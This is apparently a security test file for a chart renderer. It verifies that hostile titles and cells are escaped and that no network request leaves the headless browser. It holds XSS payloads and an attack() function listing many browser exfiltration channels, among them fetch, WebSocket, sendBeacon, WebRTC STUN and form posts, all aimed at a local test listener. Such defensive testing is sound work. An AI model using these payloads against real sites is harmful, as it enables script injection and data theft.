import {createSocket, type Socket} from "node:dgram";
import {mkdtempSync, rmSync, writeFileSync} from "node:fs";
import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import {tmpdir} from "node:os";
import {join} from "node:path";
import type {Page} from "puppeteer-core";
import {afterAll, beforeAll, beforeEach, describe, expect, test} from "vitest";
import {chartHtml} from "../../src/charts/chart_html.ts";
import {createChartRenderer} from "../../src/charts/renderer.ts";
import {type ChartSpec, chartKindSchema} from "../../src/charts/spec.ts";
import type {Cell} from "../../src/data/table.ts";
import {tableOf} from "./gallery.ts";

const renderer = createChartRenderer();
const hits = new Set<string>();
let server: Server;
let udp: Socket;
let home: string;
let stun: string;

beforeAll(async () => {
  server = createServer((request, response) => {
    hits.add(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("{}");
  });
  server.on("upgrade", (request, socket) => {
    hits.add(`websocket ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  udp = createSocket("udp4");
  udp.on("message", () => hits.add("udp"));
  await new Promise<void>((done) => udp.bind(0, "127.0.0.1", done));
  home = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  stun = `stun:127.0.0.1:${udp.address().port}`;
});
afterAll(async () => {
  await renderer.close();
  server.close();
  udp.close();
});
beforeEach(() => hits.clear());

const pause = (ms: number) => new Promise((done) => setTimeout(done, ms));
const hostile = () => [
  `<img src="${home}/img" onerror="fetch('${home}/onerror')">`,
  `<a href="javascript:fetch('${home}/js')">x</a><b>bold</b>`,
  `<script>fetch('${home}/script')</script></script>`,
  `<span style="background:url(${home}/span);fill:url(${home}/fill#a)">s</span>`,
  `%{x} $\\href{${home}/tex}{x}$ &lt;b&gt;`,
];

describe("hostile titles and cells", () => {
  test.each(chartKindSchema.options.filter((kind) => kind !== "choropleth" && kind !== "point_map"))(
    "%s shows them as they are written and asks for nothing",
    async (kind) => {
      const [image, link, script, span, other] = hostile();
      const table = tableOf(
        {[link!]: "text", [image!]: "number", g: "text", [span!]: "date"},
        hostile().map((cell, at) => [cell, at + 1, cell, `2024-05-0${at + 1}`]),
      );
      const spec: ChartSpec = {
        kind,
        ...(kind === "candlestick" && {open: image, high: image, low: image, close: image}),
        x:
          kind === "candlestick" ? span! : ["scatter", "bubble", "histogram"].includes(kind) ? image! : link!,
        y: kind === "histogram" ? undefined : image!,
        series: kind === "heatmap" ? "g" : undefined,
        size: image!,
        label: link!,
        target: "g",
        facet: ["line", "histogram"].includes(kind) ? "g" : undefined,
        title: `${link} ${other}`,
        subtitle: script,
        yUnit: span,
        xTitle: image,
      };
      const svg = Buffer.from(await renderer.render(spec, table, {format: "svg", width: 1400})).toString(
        "utf8",
      );
      expect(svg).toContain("&#60;a href=");
      expect(svg).toContain("&#60;b&#62;");
      expect(svg).not.toMatch(/<(a|img|script)\b|<[^>]*href="(?!data:image\/png)/);
      expect(svg).not.toMatch(/<[^>]*url\(["']?http/);
      expect([...hits]).toEqual([]);
    },
  );
});

describe("hostile maps and other outputs", () => {
  const places = () =>
    tableOf({place: "text", lat: "number", lon: "number", n: "number"}, [
      ["France", 48, 2, 1],
      ["Germany", 52, 13, 2],
      ["Spain", 40, -3, 3],
      ["Italy", 42, 12, 3],
      ["Poland", 52, 20, 3],
      ["Austria", 47, 14, 3],
      ...hostile().map((cell, at) => [cell, 50 + at, 10 + at, at] as Cell[]),
    ]);
  test.each(["choropleth", "point_map"] as const)(
    "%s shows them as written, as picture and as page",
    async (kind) => {
      const [, link, script] = hostile();
      const spec: ChartSpec = {
        kind,
        x: "place",
        y: "n",
        lat: "lat",
        lon: "lon",
        label: "place",
        series: kind === "point_map" ? "place" : undefined,
        title: `${link} $x^2$`,
        subtitle: script,
      };
      const svg = Buffer.from(await renderer.render(spec, places(), {format: "svg", width: 1400})).toString();
      expect(svg).toContain("&#60;a href=");
      expect(svg).toContain("$x^2$");
      expect(svg).not.toMatch(/<(a|img|script)\b|<[^>]*href="(?!data:image\/png)/);
      await asPage(await chartHtml(spec, places()), async (page) => {
        expect(await page.evaluate("document.querySelector('.gtitle').textContent")).toContain("$x^2$");
      });
      expect([...hits]).toEqual([]);
    },
  );
  test("a map whose outlines and geometry have addresses loads nothing", async () => {
    const data = [
      {type: "choropleth", geojson: `${home}/geo.json`, locations: ["a"], z: [1]},
      {type: "scattergeo", lon: [1], lat: [2], hovertemplate: `<img src="${home}/hover">`},
    ];
    const layout = {geo: {scope: "africa", resolution: 50}, images: [{source: `${home}/x.png`}]};
    await renderer.renderFigure({data, layout}, {format: "png"}).catch(() => {});
    await pause(300);
    expect([...hits]).toEqual([]);
  });
  test("a PDF holds no link and asks for nothing", async () => {
    const [image, link] = hostile();
    const table = tableOf({a: "text", b: "number"}, [
      [image!, 1],
      [link!, 2],
    ]);
    const pdf = await renderer.render({kind: "bar", x: "a", y: "b", title: link!}, table, {format: "pdf"});
    expect(Buffer.from(pdf).toString("latin1")).not.toMatch(/\/URI|\/JavaScript|\/Launch/);
    expect([...hits]).toEqual([]);
  });
});

async function asPage(html: string, look: (page: Page) => Promise<void>): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), "page-"));
  writeFileSync(join(folder, "page.html"), html);
  const page = await (await renderer.browser()).newPage();
  try {
    await page.goto(`file://${join(folder, "page.html")}`);
    await page.waitForSelector(".gtitle");
    await look(page);
    await pause(300);
  } finally {
    await page.close();
    rmSync(folder, {recursive: true, force: true});
  }
}

test("a figure with addresses, had one been made, loads nothing", async () => {
  const layout = {
    images: [{source: `${home}/layout.png`, x: 0, y: 1, sizex: 1, sizey: 1}],
    title: {text: `<span style="fill:url(${home}/fill)">a</span>`},
    font: {family: `x;background:url(${home}/font)`},
  };
  await renderer.renderFigure({data: [{type: "bar", y: [1]}], layout}, {format: "png"}).catch(() => {});
  expect([...hits]).toEqual([]);
});

test("a script, had one got to run in the page, reaches nobody", async () => {
  await renderer.render(
    {kind: "bar", x: "a", y: "b", title: "t"},
    tableOf({a: "text", b: "number"}, [["x", 1]]),
    {format: "png"},
  );
  const browser = await renderer.browser();
  const page = (await browser.pages()).at(-1)!;
  expect(await page.evaluate("typeof Plotly")).toBe("object");
  await page.evaluate(attack(home, stun)).catch(() => {});
  await pause(1500);
  expect([...hits]).toEqual([]);
  const again = () =>
    renderer.render(
      {kind: "bar", x: "a", y: "b", title: "t"},
      tableOf({a: "text", b: "number"}, [["x", 1]]),
      {
        format: "png",
      },
    );
  await again().catch(() => {});
  expect(
    Buffer.from(await again())
      .subarray(1, 4)
      .toString(),
  ).toBe("PNG");
});

test("a page to explore runs no script but its own and loads nothing", async () => {
  const table = tableOf(
    {a: "text", b: "number"},
    hostile().map((cell, at) => [cell, at + 1]),
  );
  const html = await chartHtml({kind: "bar", x: "a", y: "b", title: hostile()[2]!}, table);
  expect(html).not.toContain(`<script>fetch('${home}`);
  const folder = mkdtempSync(join(tmpdir(), "page-"));
  writeFileSync(join(folder, "page.html"), html);
  const browser = await renderer.browser();
  const page = await browser.newPage();
  try {
    await page.goto(`file://${join(folder, "page.html")}`);
    await page.waitForSelector(".gtitle");
    expect(await page.evaluate("document.querySelector('.gtitle').textContent")).toContain("<script>");
    expect(await page.evaluate("document.querySelectorAll('.point').length")).toBe(5);
    await pause(300);
    expect([...hits]).toEqual([]);
  } finally {
    await page.close();
    rmSync(folder, {recursive: true, force: true});
  }
});

/** What a script would try, to get a byte out. */
function attack(home: string, stun: string): string {
  return `(() => { const H = ${JSON.stringify(home)}; const j = (f) => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch {} };
  j(() => fetch(H + "/fetch")); j(() => { new Image().src = H + "/img"; }); j(() => new WebSocket(H.replace("http", "ws") + "/ws"));
  j(() => navigator.sendBeacon(H + "/beacon", "x")); j(() => new EventSource(H + "/es")); j(() => import(H + "/mod.js")); j(() => window.open(H + "/popup"));
  for (const [tag, key] of [["iframe", "src"], ["script", "src"], ["link", "href"]]) j(() => { const e = document.createElement(tag); e.rel = "stylesheet"; e[key] = H + "/" + tag; document.body.append(e); });
  j(() => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = H; document.head.append(l); });
  j(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + H + "/worker')"])))); j(() => new FontFace("q", "url(" + H + "/font)").load());
  j(() => { const x = new XMLHttpRequest(); x.open("GET", H + "/xhr"); x.send(); });
  j(() => { const pc = new RTCPeerConnection({iceServers: [{urls: ${JSON.stringify(stun)}}]}); pc.createDataChannel("a"); pc.createOffer().then((o) => pc.setLocalDescription(o)); });
  j(() => { const f = document.createElement("form"); f.action = H + "/form"; f.method = "post"; document.body.append(f); f.submit(); });
  setTimeout(() => { location.href = H + "/nav"; }, 200); })()`;
}
